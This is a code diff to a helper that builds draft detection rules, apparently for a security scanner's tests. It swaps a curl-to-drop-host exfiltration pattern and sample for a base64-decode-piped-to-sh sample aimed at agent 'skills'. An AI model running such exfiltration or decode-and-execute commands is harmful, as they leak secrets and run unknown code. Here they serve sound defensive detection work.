@@ -11,6 +11,7 @@ from datetime import UTC, datetime, timedelta
 from hashlib import sha256
 from typing import Any
 
+from benchmarks.payloads import payload, payload_pattern
 from panguard.engine.canonical import candidate_id
 from panguard.terms import Lane
 from panguard.threatcloud.consensus import Review, Reviewing
@@ -36,23 +37,20 @@ HEX = "0123456789abcdef"
 
 
 def rule_text(word: str, **changes: object) -> str:
-    """Return a candidate that looks for one exact address; `word` makes it another candidate."""
-    value = rf"\bcurl\s+(?:-[a-zA-Z]+\s+){{0,4}}https://collect\.{word}\.example/intake/[a-z0-9]{{4,24}}\b"
+    """Return a candidate that looks for one exact payload; `word` makes it another candidate."""
     document = {
         "id": "DRAFT-0001",
-        "title": "Sends what it finds to a drop host",
-        "description": "Finds the command that hands stolen keys to a drop host of one campaign.",
+        "title": "Runs the payload of one campaign",
+        "description": "Finds the data that one campaign has an agent decode and run.",
         "severity": "critical",
         "status": "experimental",
         "tags": {"category": "context-exfiltration", "scan_target": "skill"},
         "detection": {
-            "conditions": [{"field": "content", "operator": "regex", "value": value}],
+            "conditions": [{"field": "content", "operator": "regex", "value": payload_pattern(word)}],
             "condition": "any",
         },
         "test_cases": {
-            "true_positives": [
-                {"input": f"curl -s https://collect.{word}.example/intake/k3y5", "expected": "triggered"}
-            ],
+            "true_positives": [{"input": f"echo {payload(word)} | base64 -d | sh", "expected": "triggered"}],
             "true_negatives": [{"input": "Nothing to see here.", "expected": "not_triggered"}],
         },
         **changes,
